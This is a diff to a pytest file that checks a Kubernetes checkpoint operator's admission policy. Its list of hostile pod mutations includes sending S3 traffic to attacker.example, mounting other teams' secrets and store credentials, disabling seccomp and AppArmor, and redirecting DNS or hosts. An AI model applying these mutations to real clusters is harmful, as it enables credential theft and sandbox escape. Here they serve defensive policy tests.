@@ -19,7 +19,7 @@ from helm_python import chart as helm_chart
 
 import pod_shapes
 from admission_policy import OPERATOR_NAMESPACE, Request, evaluate
-from checkpoint_operator.logic import live_sealing, workload
+from checkpoint_operator.logic import catalog, live_sealing, workload
 from checkpoint_operator.reconcile.context import Context
 from test_chart import CHART_DIR, NAMESPACE, RELEASE, of_kind, one, render
 
@@ -57,8 +57,8 @@ def allowed(policy: dict, request: Request) -> None:
 def refused(policy: dict, request: Request, message: str) -> None:
     decision = evaluate(policy, request)
     assert decision.matched
-    assert any(m.startswith(message) for m in decision.refusals), \
-        f"expected a refusal starting {message!r}, got {decision.refusals}"
+    assert any(message in m for m in decision.refusals), \
+        f"expected a refusal with {message!r}, got {decision.refusals}"
 
 
 # --- what the operator really does is accepted ------------------------------------------------------
@@ -68,7 +68,61 @@ AGENT_PODS = pod_shapes.agent_pods()
 
 @pytest.mark.parametrize("name", sorted(AGENT_PODS))
 def test_every_agent_pod_the_operator_builds_is_accepted(policies, name):
-    allowed(policies[store_of(name)], create("Pod", AGENT_PODS[name]))
+    pod = AGENT_PODS[name]
+    allowed(policies[store_of(name)], create("Pod", pod, namespace=pod["metadata"]["namespace"]))
+
+
+def test_the_catalog_imports_in_the_operator_namespace_and_nothing_else_does(policies):
+    """The operator's namespace is protected, except for what the catalog needs there: its import pod and
+    claim (owned by a ClusterCheckpoint), their deletion, and Events about ClusterCheckpoints."""
+    catalog_pod = AGENT_PODS["volume/catalog-import/huggingFace"]
+    assert catalog_pod["metadata"]["namespace"] == OPERATOR_NAMESPACE
+    allowed(policies["volume"], Request("DELETE", "Pod", OPERATOR_NAMESPACE, old_object=catalog_pod))
+    entry = pod_shapes.cluster_checkpoint(pod_shapes.SOURCES["http"])
+    claim = {"apiVersion": "v1", "kind": "PersistentVolumeClaim",
+             **catalog.build_catalog_claim(entry, pod_shapes.config("volume"), OPERATOR_NAMESPACE)}
+    allowed(policies["volume"], create("PersistentVolumeClaim", claim, namespace=OPERATOR_NAMESPACE))
+    # A Checkpoint's import pod, a snapshot pod: not in the operator's namespace.
+    for name in ("volume/import/http", "volume/snapshot"):
+        moved = copy.deepcopy(AGENT_PODS[name])
+        moved["metadata"]["namespace"] = OPERATOR_NAMESPACE
+        refused(policies["volume"], create("Pod", moved, namespace=OPERATOR_NAMESPACE),
+                "the checkpoint operator may not create, change or delete pods in namespace ckpt-system")
+    # A catalog pod posing as another component is not one of its agent pods.
+    posing = copy.deepcopy(catalog_pod)
+    posing["metadata"]["labels"]["ckpt.dev/component"] = "verify"
+    refused(policies["volume"], create("Pod", posing, namespace=OPERATOR_NAMESPACE), MESSAGES["shape"])
+
+
+def test_a_catalog_copy_may_be_marked_verified_and_nothing_more(policies):
+    entry = pod_shapes.cluster_checkpoint({"huggingFace": {"repo": "org/model"}}, status=pod_shapes.READY_ENTRY_STATUS)
+    claim = {"apiVersion": "v1", "kind": "PersistentVolumeClaim",
+             **catalog.build_copy_claim(entry, pod_shapes.config("volume"), NS)}
+    allowed(policies["volume"], create("PersistentVolumeClaim", claim))
+    marked = copy.deepcopy(claim)
+    marked["metadata"]["annotations"] = {catalog.COPIED_DIGEST_ANNOTATION: pod_shapes.DIGEST}
+    allowed(policies["volume"], Request("UPDATE", "PersistentVolumeClaim", NS, marked, claim))
+    other = copy.deepcopy(claim)
+    other["metadata"]["annotations"] = {"volume.kubernetes.io/selected-node": "node-1"}
+    refused(policies["volume"], Request("UPDATE", "PersistentVolumeClaim", NS, other, claim),
+            "the checkpoint operator may change only the owner references of its own claims")
+    # On a claim of a Checkpoint (not a catalog copy) that annotation is refused too.
+    output = claims()["output"]
+    stamped = copy.deepcopy(output)
+    stamped["metadata"]["annotations"] = {catalog.COPIED_DIGEST_ANNOTATION: pod_shapes.DIGEST}
+    refused(policies["volume"], Request("UPDATE", "PersistentVolumeClaim", NS, stamped, output),
+            "the checkpoint operator may change only the owner references of its own claims")
+
+
+def test_events_about_a_catalog_entry_go_to_the_operator_namespace(policies):
+    recorder = _Recorder()
+    ctx = Context(kube=recorder, config=pod_shapes.config("volume", catalog_namespace=OPERATOR_NAMESPACE))  # type: ignore[arg-type]
+    ctx.warn(pod_shapes.cluster_checkpoint(pod_shapes.SOURCES["http"]), "DeletionBlocked", "in use by team-a/train")
+    (event,) = recorder.bodies
+    assert event["metadata"]["namespace"] == OPERATOR_NAMESPACE and "namespace" not in event["involvedObject"]
+    allowed(policies["volume"], create("Event", event, namespace=OPERATOR_NAMESPACE))
+    refused(policies["volume"], create("Event", event, namespace="kube-system"), "the checkpoint operator may not")
+    refused(policies["volume"], create("Event", event, namespace=NS), "the checkpoint operator only creates Events")
 
 
 def test_an_s3_pod_needs_the_s3_policy():
@@ -202,6 +256,15 @@ def _add_volume(volume: dict, mount_in: str | None = "snapshot", mount_path: str
     return change
 
 
+def _volume(name: str, **fields: Any) -> Change:
+    """Replace the body of the pod's volume `name` (keeping its name)."""
+    def change(pod: dict) -> None:
+        volume = next(v for v in pod["spec"]["volumes"] if v["name"] == name)
+        volume.clear()
+        volume.update(name=name, **fields)
+    return change
+
+
 def _add_env(entry: dict, container: str = "snapshot") -> Change:
     return _in_container(lambda c: c.setdefault("env", []).append(entry), container)
 
@@ -219,6 +282,11 @@ MESSAGES = {
     "source-mounts": "a source's Secret and CA are mounted only by the container named import",
     "env": "an agent container sets only the agent's variables",
     "endpoint": "an agent container that talks to the store uses the store's endpoint",
+    "arguments": "an agent command has only the arguments its code passes",
+    "source-secret": "an import pod reads one Secret, the one its annotation ckpt.dev/source-secret names",
+    "mounts": "an agent container's mounts have no subPathExpr and no mount propagation",
+    "resources": "an agent container asks only for cpu, memory and ephemeral-storage",
+    "fields": "an agent pod sets none of what its code never sets",
 }
 
 SECRET_DIR = "/var/run/secrets/ckpt-source"
@@ -290,6 +358,91 @@ HOSTILE_PODS: list[tuple[str, str, Change, str]] = [
         livenessProbe={"exec": {"command": ["sh", "-c", "true"]}})), "hooks"),
     ("ephemeral-container", "volume/snapshot", _set("spec.ephemeralContainers", [{"name": "e", "image": "x"}]),
      "host"),
+    # hostile1 D6: any key of any Secret, remapped by items, sent to a server of the operator's choosing
+    ("a-token-secret-remapped-to-password", "volume/import/ftp-with-login-and-ca",
+     _volume("ckpt-source-secret", secret={"secretName": "builder-token-x7k2p", "defaultMode": 256,
+                                           "items": [{"key": "token", "path": "password"}]}), "source-secret"),
+    ("the-store-secret-as-a-source-login", "s3/import/ftp-with-login-and-ca",
+     _volume("ckpt-source-secret", secret={"secretName": pod_shapes.STORE_SECRET, "defaultMode": 256}), "source-secret"),
+    ("the-store-secret-annotated-as-the-source", "s3/import/ftp-with-login-and-ca",
+     lambda p: (p["metadata"]["annotations"].update({"ckpt.dev/source-secret": pod_shapes.STORE_SECRET}),
+                _volume("ckpt-source-secret", secret={"secretName": pod_shapes.STORE_SECRET, "defaultMode": 256})(p)),
+     "source-secret"),
+    ("a-secret-other-than-the-annotated-one", "volume/import/git",
+     _volume("ckpt-source-secret", secret={"secretName": "db-password", "defaultMode": 256}), "source-secret"),
+    ("a-source-secret-world-readable", "volume/import/git",
+     _volume("ckpt-source-secret", secret={"secretName": "git-login", "defaultMode": 0o444}), "source-secret"),
+    ("the-store-keys-in-the-import-container", "s3/import/huggingFace", _add_env({"name": "AWS_SECRET_ACCESS_KEY",
+     "valueFrom": {"secretKeyRef": {"name": pod_shapes.STORE_SECRET, "key": "AWS_SECRET_ACCESS_KEY"}}}, "import"),
+     "source-secret"),
+    ("a-token-under-another-secret-s-name", "s3/import/huggingFace",
+     _in_container(lambda c: c["env"][-1]["valueFrom"]["secretKeyRef"].update(name="other-team-hf"), "import"),
+     "source-secret"),
+    ("a-ca-bundle-remapped", "s3/import/ftp-with-login-and-ca",
+     _volume("ckpt-source-ca", configMap={"name": "corp-ca", "items": [{"key": "x", "path": "ca.pem"}]}),
+     "source-secret"),
+    # hostile1 D6, D8: arguments the code never passes
+    ("an-import-sent-to-a-shell-flag", "s3/import/http",
+     _in_container(lambda c: c["command"].__setitem__(3, "--endpoint-url=http://attacker.example"), "import"),
+     "arguments"),
+    ("a-store-container-sent-elsewhere", "s3/snapshot",
+     _in_container(lambda c: c["command"].extend(["--endpoint-url", "http://attacker.example"])), "arguments"),
+    ("an-upload-under-another-namespace", "s3/snapshot",
+     _in_container(lambda c: c["command"].__setitem__(7, "s3://ckpts/checkpoints/team-b/x/")), "arguments"),
+    ("an-import-into-another-directory", "s3/import/http",
+     _in_container(lambda c: c["command"].__setitem__(4, "/etc"), "import"), "arguments"),
+    ("a-ca-file-read-from-the-secret", "volume/import/git",
+     _in_container(lambda c: c["command"].__setitem__(-1, f"{SECRET_DIR}/password"), "import"), "arguments"),
+    ("a-scan-of-another-directory", "volume/scan",
+     _in_container(lambda c: c["command"].__setitem__(3, "/var/run/secrets"), "scan"), "arguments"),
+    ("a-verify-of-another-namespace", "s3/verify",
+     _in_container(lambda c: c["command"].__setitem__(3, "s3://ckpts/checkpoints/team-b/m/"), "verify"), "arguments"),
+    ("an-extra-positional", "volume/pull", _in_container(lambda c: c["command"].append("/etc"), "hold"), "arguments"),
+    # hostile1 D7: seccomp, AppArmor and SELinux held to restricted's rules
+    ("seccomp-unconfined-pod", "s3/snapshot", lambda p: p["spec"]["securityContext"].update(
+        seccompProfile={"type": "Unconfined"}), "host"),
+    ("seccomp-localhost-pod", "s3/snapshot", lambda p: p["spec"]["securityContext"].update(
+        seccompProfile={"type": "Localhost", "localhostProfile": "loose.json"}), "host"),
+    ("no-pod-seccomp", "s3/snapshot", lambda p: p["spec"]["securityContext"].pop("seccompProfile"), "host"),
+    ("selinux-spc-t", "s3/snapshot", lambda p: p["spec"]["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
+     "host"),
+    ("apparmor-unconfined-pod", "s3/snapshot", lambda p: p["spec"]["securityContext"].update(
+        appArmorProfile={"type": "Unconfined"}), "host"),
+    ("apparmor-annotation", "s3/snapshot", lambda p: p["metadata"]["annotations"].update(
+        {"container.apparmor.security.beta.kubernetes.io/snapshot": "unconfined"}), "host"),
+    ("host-users", "s3/snapshot", _set("spec.hostUsers", True), "host"),
+    ("seccomp-unconfined-container", "s3/snapshot",
+     _in_container(lambda c: c["securityContext"].update(seccompProfile={"type": "Unconfined"})), "privilege"),
+    ("apparmor-unconfined-container", "s3/snapshot",
+     _in_container(lambda c: c["securityContext"].update(appArmorProfile={"type": "Unconfined"})), "privilege"),
+    # hostile1 D8: fields the code never sets
+    ("host-aliases", "s3/snapshot", _set("spec.hostAliases", [{"ip": "6.6.6.6", "hostnames": ["minio.minio.svc"]}]),
+     "fields"),
+    ("dns-none", "s3/snapshot", lambda p: p["spec"].update(dnsPolicy="None", dnsConfig={"nameservers": ["6.6.6.6"]}),
+     "fields"),
+    ("image-pull-secrets", "s3/snapshot", _set("spec.imagePullSecrets", [{"name": "any-secret"}]), "fields"),
+    ("runtime-class", "s3/snapshot", _set("spec.runtimeClassName", "unsafe"), "fields"),
+    ("priority-class", "s3/snapshot", _set("spec.priorityClassName", "system-node-critical"), "fields"),
+    ("node-selector", "s3/snapshot", _set("spec.nodeSelector", {"node-role.kubernetes.io/control-plane": ""}), "fields"),
+    ("tolerate-everything", "s3/snapshot", _set("spec.tolerations", [{"operator": "Exists"}]), "fields"),
+    ("resource-claims", "s3/snapshot", _set("spec.resourceClaims", [{"name": "gpu",
+                                                                     "resourceClaimName": "someone-elses-gpu"}]),
+     "fields"),
+    ("os-windows", "s3/snapshot", _set("spec.os", {"name": "windows"}), "fields"),
+    ("another-scheduler", "s3/snapshot", _set("spec.schedulerName", "evil"), "fields"),
+    ("shared-process-namespace", "s3/snapshot", _set("spec.shareProcessNamespace", True), "fields"),
+    ("affinity", "s3/snapshot", _set("spec.affinity", {"nodeAffinity": {}}), "fields"),
+    ("eight-gpus", "s3/snapshot", _in_container(lambda c: c["resources"]["limits"].update({"nvidia.com/gpu": "8"})),
+     "resources"),
+    ("a-container-resource-claim", "s3/snapshot",
+     _in_container(lambda c: c["resources"].update(claims=[{"name": "gpu"}])), "resources"),
+    ("stdin-tty", "s3/snapshot", _in_container(lambda c: c.update(stdin=True, tty=True)), "hooks"),
+    ("raw-device", "volume/snapshot", _in_container(lambda c: c.update(volumeDevices=[
+        {"name": "ckpt-output", "devicePath": "/dev/xvda"}])), "hooks"),
+    ("sub-path-expr", "volume/snapshot",
+     _in_container(lambda c: c["volumeMounts"][0].update(subPathExpr="$(POD)")), "mounts"),
+    ("mount-propagation", "volume/snapshot",
+     _in_container(lambda c: c["volumeMounts"][0].update(mountPropagation="HostToContainer")), "mounts"),
 ]
 
 
@@ -430,3 +583,121 @@ def test_a_watched_namespace_cannot_be_protected():
     protected = one(objects, "ValidatingAdmissionPolicy")["spec"]["variables"]
     assert next(v for v in protected if v["name"] == "protectedNamespaces")["expression"] == \
         '["kube-system","kube-public","kube-node-lease"]'
+
+
+# --- what the API server and common admission add is not refused (the policy sees the pod after them) --
+
+def as_admitted(pod: dict, *, priority_class: str = "") -> dict:
+    """The pod as a validating admission policy sees it: defaulted by the API server (SetDefaults_Pod)
+    and mutated by the default admission plugins (ServiceAccount, DefaultTolerationSeconds, Priority,
+    LimitRanger with a namespace default)."""
+    pod = copy.deepcopy(pod)
+    spec = pod["spec"]
+    spec.setdefault("dnsPolicy", "ClusterFirst")
+    spec.setdefault("schedulerName", "default-scheduler")
+    spec.setdefault("terminationGracePeriodSeconds", 30)
+    spec.setdefault("enableServiceLinks", True)
+    spec.setdefault("serviceAccountName", "default")
+    spec["serviceAccount"] = spec["serviceAccountName"]
+    spec["priority"] = 0
+    spec["preemptionPolicy"] = "PreemptLowerPriority"
+    if priority_class:
+        spec["priorityClassName"] = priority_class
+    spec["tolerations"] = [{"key": key, "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}
+                           for key in ("node.kubernetes.io/not-ready", "node.kubernetes.io/unreachable")]
+    for container in [*spec["containers"], *spec.get("initContainers", [])]:
+        container.setdefault("terminationMessagePath", "/dev/termination-log")
+        container.setdefault("terminationMessagePolicy", "File")
+        container.setdefault("imagePullPolicy", "IfNotPresent")
+        container["resources"].setdefault("requests", {}).setdefault("ephemeral-storage", "1Gi")
+    for volume in spec.get("volumes", []):
+        for kind in ("secret", "configMap"):
+            if kind in volume:
+                volume[kind].setdefault("defaultMode", 420)
+    return pod
+
+
+@pytest.mark.parametrize("name", sorted(AGENT_PODS))
+def test_every_agent_pod_is_accepted_as_admission_defaults_it(policies, name):
+    pod = as_admitted(AGENT_PODS[name])
+    allowed(policies[store_of(name)], create("Pod", pod, namespace=pod["metadata"]["namespace"]))
+
+
+def test_the_cluster_s_own_defaults_are_allowed_when_the_chart_is_told(policies):
+    """A globalDefault PriorityClass and PodNodeSelector's selector are refused unless
+    admissionPolicy.clusterDefaults names them (then only they are allowed)."""
+    pod = as_admitted(AGENT_PODS["s3/snapshot"], priority_class="tenant-default")
+    pod["spec"]["nodeSelector"] = {"pool": "batch"}
+    refused(policies["s3"], create("Pod", pod), MESSAGES["fields"])
+    values = {**VALUES["s3"], "admissionPolicy": {"clusterDefaults": {
+        "priorityClassName": "tenant-default", "nodeSelector": {"pool": "batch"},
+        "tolerations": [{"key": "pool", "operator": "Equal", "value": "batch", "effect": "NoSchedule"}],
+        "imagePullSecrets": [{"name": "registry"}]}}}
+    with helm_chart.Chart.load(CHART_DIR) as chart:
+        told = one(render(chart, values), "ValidatingAdmissionPolicy")
+    pod["spec"]["tolerations"].append({"key": "pool", "operator": "Equal", "value": "batch", "effect": "NoSchedule"})
+    pod["spec"]["imagePullSecrets"] = [{"name": "registry"}]
+    allowed(told, create("Pod", pod))
+    pod["spec"]["priorityClassName"] = "system-cluster-critical"
+    refused(told, create("Pod", pod), MESSAGES["fields"])
+
+
+# --- hostile1 D14: a service mesh's injection ----------------------------------------------------------
+
+def test_agent_pods_opt_out_of_mesh_injection():
+    for name, pod in AGENT_PODS.items():
+        assert pod["metadata"]["annotations"]["sidecar.istio.io/inject"] == "false", name
+        assert pod["metadata"]["labels"]["sidecar.istio.io/inject"] == "false", name
+        assert pod["metadata"]["annotations"]["linkerd.io/inject"] == "disabled", name
+
+
+def test_a_sidecar_a_webhook_injects_anyway_is_refused_naming_it(policies):
+    """What a webhook that ignores the opt-out does (Istio with a policy of `enabled` for all pods): the
+    policy refuses the pod, and the refusal names the container the webhook added; the Checkpoint's
+    PodRefused condition carries that one line."""
+    pod = as_admitted(AGENT_PODS["s3/snapshot"])
+    pod["spec"]["containers"].append({"name": "istio-proxy", "image": "docker.io/istio/proxyv2:1.22.0",
+                                      "args": ["proxy", "sidecar"], "securityContext": {
+                                          "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]},
+                                          "runAsNonRoot": True, "runAsUser": 1337}})
+    decision = evaluate(policies["s3"], create("Pod", pod))
+    image = [m for m in decision.refusals if "every container of an agent pod runs the operator's image" in m]
+    assert image == [
+        "container istio-proxy runs docker.io/istio/proxyv2:1.22.0: every container of an agent pod runs the "
+        "operator's image registry.example/checkpoint-operator:1.2.3 (a mutating webhook that adds a container, such "
+        "as a service mesh's sidecar, must skip agent pods: they carry sidecar.istio.io/inject: \"false\" and "
+        "linkerd.io/inject: disabled)"]
+    assert all("\n" not in m for m in decision.refusals)
+
+
+# --- hostile1 D6: one Secret per import pod, named on it -------------------------------------------------
+
+def test_an_import_pod_names_the_one_secret_it_reads():
+    for name, pod in AGENT_PODS.items():
+        secrets = {v["secret"]["secretName"] for v in pod["spec"]["volumes"] if "secret" in v}
+        containers = [*pod["spec"]["containers"], *pod["spec"].get("initContainers", [])]
+        secrets |= {e["valueFrom"]["secretKeyRef"]["name"] for c in containers if c["name"] == "import"
+                    for e in c.get("env", []) if "secretKeyRef" in e.get("valueFrom", {})}
+        annotated = pod["metadata"]["annotations"].get("ckpt.dev/source-secret")
+        assert secrets == ({annotated} if annotated else set()), name
+    assert AGENT_PODS["volume/import/git"]["metadata"]["annotations"]["ckpt.dev/source-secret"] == "git-login"
+
+
+# --- hostile1 D8: claims bound to a volume or copied from another namespace ------------------------------
+
+@pytest.mark.parametrize("field, value", [
+    ("volumeName", "pv-of-team-b"),
+    ("selector", {"matchLabels": {"team": "b"}}),
+    ("volumeMode", "Block"),
+    ("volumeAttributesClassName", "gold"),
+    ("dataSourceRef", {"kind": "VolumeSnapshot", "apiGroup": "snapshot.storage.k8s.io", "name": "s",
+                       "namespace": "team-b"}),
+])
+def test_a_claim_bound_to_a_chosen_volume_or_another_namespace_is_refused(policies, field, value):
+    claim = copy.deepcopy(claims()["import"])
+    claim["spec"][field] = value
+    refused(policies["volume"], create("PersistentVolumeClaim", claim),
+            "the checkpoint operator may create only its own claims")
+    claim["spec"].pop(field)
+    claim["spec"]["volumeMode"] = "Filesystem"  # the API server's default
+    allowed(policies["volume"], create("PersistentVolumeClaim", claim))
